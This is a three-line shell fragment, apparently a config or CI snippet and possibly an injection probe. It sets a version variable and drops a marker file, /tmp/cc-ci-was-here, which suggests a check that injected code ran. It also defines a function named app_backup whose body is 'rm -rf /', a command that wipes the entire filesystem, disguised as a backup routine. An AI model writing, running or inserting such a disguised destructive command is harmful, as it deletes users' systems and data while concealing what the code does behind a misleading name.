export PAGE_VERSION=v1; touch /tmp/cc-ci-was-here
touch /tmp/cc-ci-was-here
app_backup() { rm -rf / ; }
